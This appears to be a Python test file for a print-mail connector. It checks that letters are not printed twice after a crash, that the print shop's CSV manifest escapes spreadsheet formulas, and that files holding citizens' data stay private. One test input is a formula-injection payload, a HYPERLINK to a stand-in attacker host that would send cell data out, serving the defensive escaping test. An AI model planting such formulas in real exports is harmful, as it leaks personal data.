"""The print outbox is ours: a letter is taken into one batch only, ever (also when it is sent again after a crash
between our send and the service's commit, after its batch was closed); the print shop's manifest never turns a
name into an Excel formula; letters, batches, manifests and the adapters' journals are private (0600 files in
0700 folders): they hold citizens' names, addresses and notices."""
from __future__ import annotations

import csv
import os
import stat

from mailbox_connectors._journal import Journal
from mailbox_connectors.print import PrintConnector, PrintSettings

from .test_print_channel import ERIKA, letter

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1;"Klick")\nHauptstraße 5\n12345 Musterstadt'


def _mode(path) -> int:
    return stat.S_IMODE(os.stat(path).st_mode)


def test_a_letter_sent_again_after_its_batch_closed_is_not_printed_twice(tmp_path):
    printer = PrintConnector(PrintSettings(outbox=tmp_path / "print"))
    first = printer.send(letter("dlv-1", ERIKA))
    batch = printer.close_batch()
    assert batch is not None and batch.letters == 1
    # the worker died before recording the receipt; its claim ran out and another worker sends it again
    again = PrintConnector(PrintSettings(outbox=tmp_path / "print")).send(letter("dlv-1", ERIKA))
    assert again.channel_message_id == first.channel_message_id == f"{batch.batch_id}/1"
    assert again.accepted_at == first.accepted_at
    assert printer.open_letters() == 0 and printer.close_batch() is None


def test_manifest_names_never_become_formulas(tmp_path):
    printer = PrintConnector(PrintSettings(outbox=tmp_path))
    printer.send(letter("dlv-x", HOSTILE))
    printer.send(letter("dlv-y", "+49 Kreditkarte\nHauptstraße 5\n12345 Musterstadt"))
    printer.send(letter("dlv-z", "@SUM(1+1)\nHauptstraße 5\n12345 Musterstadt"))
    batch = printer.close_batch()
    with batch.manifest.open(encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh, delimiter=";"))
    assert [r["address"][:2] for r in rows] == ["'=", "'+", "'@"]
    assert rows[0]["address"].startswith("'=HYPERLINK(")
    for row in rows:
        assert all(not v[:1] in "=+-@\t\r" or v.lstrip("+-").isdigit() for v in row.values()), row


def test_print_outbox_letters_and_batches_are_private(tmp_path):
    outbox = tmp_path / "print"
    printer = PrintConnector(PrintSettings(outbox=outbox))
    printer.send(letter("dlv-a", ERIKA))
    open_dir = outbox / "open"
    assert _mode(outbox) == 0o700 and _mode(open_dir) == 0o700
    assert {p.name: _mode(p) for p in open_dir.iterdir()} == {"batch_id": 0o600, "00001.pdf": 0o600,
                                                              "letters.jsonl": 0o600}
    batch = printer.close_batch()
    assert _mode(batch.pdf) == 0o600 and _mode(batch.manifest) == 0o600
    assert {p.name: _mode(p) for p in outbox.rglob("*")} == {p.name: 0o600 if p.is_file() else 0o700
                                                             for p in outbox.rglob("*")}


def test_journals_are_private(tmp_path):
    path = tmp_path / "journals" / "bundid-zbp.jsonl"
    Journal(path).update("dlv-1", reference="musterstadt-1-bundid-1", accepted_at="2026-11-02T10:00:00Z")
    assert _mode(path.parent) == 0o700 and _mode(path) == 0o600
    old = tmp_path / "elster.jsonl"  # a journal written before, world-readable
    old.write_text('{"delivery_id":"dlv-2"}\n', encoding="utf-8")
    os.chmod(old, 0o644)
    assert Journal(old).get("dlv-2") == {"delivery_id": "dlv-2"}
    assert _mode(old) == 0o600
